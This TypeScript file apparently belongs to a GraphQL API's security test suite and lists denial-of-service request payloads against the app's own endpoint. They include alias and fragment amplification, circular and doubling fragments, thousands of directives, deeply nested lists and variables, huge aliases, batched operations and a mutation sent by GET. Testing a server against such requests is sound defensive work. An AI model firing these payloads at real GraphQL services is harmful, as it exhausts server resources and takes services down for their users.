import { type Attack, byRequest, get, graphqlPost, times } from './attack.js';

const ROW = 'week price stores tied nextPrice hasSales';
const nested = (depth: number, open: string, inside: string, close: string) =>
  `${open.repeat(depth)}${inside}${close.repeat(depth)}`;

/** Requests that cost the server far more than the client. */
export const graphqlAttacks: readonly Attack[] = [
  byRequest(
    '25 roots × 1,600 aliases under a fragment',
    graphqlPost(
      `{ ${times(25, (i) => `r${i}: lowestFuelPrices { nodes { ...F } }`)} }
       fragment F on LowestFuelPrice { ${times(1_600, (i) => `a${i}: week`)} }`,
    ),
    graphqlPost(
      `{ ${times(25, (i) => `r${i}: lowestFuelPrices { nodes { ...F } }`)} }
       fragment F on LowestFuelPrice { ${times(500, (i) => `a${i}: week`)} }`,
    ),
  ),
  byRequest(
    'one root with 800 aliases of all fields',
    graphqlPost(
      `{ lowestFuelPrices(first: 1000) { ${times(800, (i) => `n${i}: nodes { ${ROW} }`)} } }`,
    ),
    graphqlPost(
      `{ lowestFuelPrices(first: 1000) { ${times(35, (i) => `n${i}: nodes { ${ROW} }`)} } }`,
    ),
  ),
  byRequest(
    '2,000 duplicate roots',
    graphqlPost(`{ ${times(2_000, () => 'lowestFuelPrices { totalCount }')} }`),
    graphqlPost(`{ ${times(500, () => 'lowestFuelPrices { totalCount }')} }`),
  ),
  byRequest(
    'the same field and fragment again and again',
    graphqlPost(`{ lowestFuelPrices { nodes { ${times(2_400, () => 'week')} } } }`),
    graphqlPost(
      `{ lowestFuelPrices { nodes { ${times(1_200, () => '...F')} } } } fragment F on LowestFuelPrice { week }`,
    ),
    graphqlPost(
      `{ lowestFuelPrices { ${times(400, () => 'pageInfo { hasNextPage endCursor }')} } }`,
    ),
  ),
  byRequest(
    'nested aliases',
    graphqlPost(
      `{ ${times(25, (i) => `r${i}: lowestFuelPrices { ${times(20, (j) => `e${j}: edges { n${j}: node { w: week } }`)} }`)} }`,
    ),
    graphqlPost(
      `{ __schema { types { ${nested(300, 'a: fields { b: type { ', 'name', ' } }')} } } }`,
    ),
  ),
  byRequest(
    'an alias that makes every row long',
    graphqlPost(
      `{ lowestFuelPrices(first: 1000) { nodes { ${'a'.repeat(1_000_000)}: week } edges { node { week } } } }`,
    ),
    graphqlPost(
      `{ lowestFuelPrices(first: 1000) { nodes { ${times(90, (i) => `${'a'.repeat(10_000)}${i}: week`)} } } }`,
    ),
    graphqlPost(`{ lowestFuelPrices(first: 1000) { nodes { ${'a'.repeat(16_000)}: week } } }`),
  ),
  byRequest(
    '130 documents of comments, each another',
    ...Array.from({ length: 130 }, (_, i) =>
      graphqlPost(`{ publishedSnapshot { id } }${'\n#'.repeat(230_000)}${i}`),
    ),
  ),
  byRequest(
    'circular and doubling fragments',
    graphqlPost(
      '{ ...A } fragment A on Query { ...B } fragment B on Query { ...A lowestFuelPrices { totalCount } }',
    ),
    graphqlPost(
      `{ lowestFuelPrices { nodes { ...F0 } } } fragment F300 on LowestFuelPrice { week }
       ${times(300, (i) => `fragment F${i} on LowestFuelPrice { ...F${i + 1} ...F${i + 1} }`)}`,
    ),
  ),
  byRequest(
    '10,000 directives',
    graphqlPost(`{ lowestFuelPrices ${times(10_000, () => '@include(if: true)')} { totalCount } }`),
    graphqlPost(`{ lowestFuelPrices ${times(400, () => '@include(if: true)')} { totalCount } }`),
    graphqlPost(`{ lowestFuelPrices ${times(800, () => '@no')} { totalCount } }`),
  ),
  byRequest(
    'deep and long variables and lists',
    graphqlPost(`{ lowestFuelPrices(first: ${nested(1_200, '[', '1', ']')}) { totalCount } }`),
    graphqlPost(`{ lowestFuelPrices(first: ${nested(100_000, '[', '1', ']')}) { totalCount } }`),
    {
      ...graphqlPost(''),
      body: `{"query":"query ($a: Int!) { lowestFuelPrices(first: $a) { totalCount } }","variables":{"a":${nested(200_000, '[', '1', ']')}}}`,
    },
    graphqlPost('query ($a: Int!) { lowestFuelPrices(first: $a) { totalCount } }', {
      a: Array.from({ length: 100_000 }, (_, i) => i),
    }),
    graphqlPost(
      `query (${times(600, (i) => `$v${i}: Int = ${i}`)}) { lowestFuelPrices { totalCount } }`,
    ),
    graphqlPost(nested(40_000, '{a', '', '}')),
  ),
  byRequest(
    'several operations, and lists of them',
    { ...graphqlPost(''), body: JSON.stringify(Array(500).fill({ query: '{ __typename }' })) },
    graphqlPost(times(350, (i) => `query Q${i} { lowestFuelPrices { totalCount } }`)),
  ),
  byRequest(
    'a mutation by GET',
    get(`/graphql?query=${encodeURIComponent('mutation { startRun { id } }')}`),
    get(`/graphql?query=${encodeURIComponent('mutation { startRun { id } }')}`, {
      'apollo-require-preflight': 'true',
    }),
    get(
      `/graphql?query=${encodeURIComponent('query A { __typename } mutation B { startRun { id } }')}&operationName=B`,
      {
        'apollo-require-preflight': 'true',
      },
    ),
  ),
];
